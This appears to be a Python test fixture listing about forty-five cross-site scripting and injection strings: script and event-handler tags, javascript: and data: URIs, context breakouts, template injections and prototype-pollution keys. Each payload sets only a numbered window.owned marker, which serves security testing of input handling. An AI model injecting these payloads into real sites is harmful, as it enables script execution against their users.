"""Texts that run as script, or break out of where they stand, in programs that trust their input.

Each sets `window.owned` when it runs; ZZ is replaced by a number, so that a hit names its payload.
"""

from __future__ import annotations

_RUN = "window.owned=ZZ"

PAYLOADS = [
    payload.replace("ZZ", str(number))
    for number, payload in enumerate(
        [
            f"<script>{_RUN}</script>",
            f"</script><script>{_RUN}</script>",
            f"</ScRiPt ><script>{_RUN}</script>",
            f"<!--<script>{_RUN}</script>",
            f"--><script>{_RUN}</script>",
            f"]]><script>{_RUN}</script>",
            f"<img src=x onerror={_RUN}>",
            f"<img src=data:, onerror='{_RUN}'>",
            f'"><svg/onload={_RUN}>',
            f"'><body onload={_RUN}>",
            f"<svg><script>{_RUN}</script></svg>",
            f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
            f"<math><mtext></p><img src onerror={_RUN}></mtext></math>",
            "<iframe srcdoc='<script>parent.owned=ZZ</script>'></iframe>",
            "<iframe src=javascript:parent.owned=ZZ></iframe>",
            f"<object data='javascript:{_RUN}'></object>",
            f"<details open ontoggle={_RUN}>",
            f"<input autofocus onfocus={_RUN}>",
            f"<a href=javascript:{_RUN} autofocus>x</a>",
            f"<video><source onerror={_RUN}></video>",
            f"<style>@import 'javascript:{_RUN}';</style><style onload={_RUN}></style>",
            f"</style><script>{_RUN}</script>",
            f"</title><script>{_RUN}</script>",
            f"</template><script>{_RUN}</script>",
            f"</textarea><script>{_RUN}</script>",
            f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
            f"';{_RUN};//",
            f'";{_RUN};//',
            f"\\';{_RUN};//",
            f"`;{_RUN};`${{{_RUN}}}",
            f"\u2028{_RUN}\u2029",
            f"{{{{constructor.constructor('{_RUN}')()}}}}",
            f"${{{_RUN}}}",
            f"javascript:{_RUN}",
            f"JaVaScRiPt:{_RUN}",
            f" \x01javascript:{_RUN}",
            f"java\tscript:{_RUN}",
            "data:text/html,<script>parent.owned=ZZ</script>",
            f"vbscript:{_RUN}",
            "<base href='https://example.org/'><link rel=stylesheet href=x>",
            f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
            f"<form action=javascript:{_RUN}><button autofocus>x</form>",
            "__proto__",
            "constructor",
            f"\ud800\x00\x7f<b onmouseover={_RUN}>",
        ]
    )
]
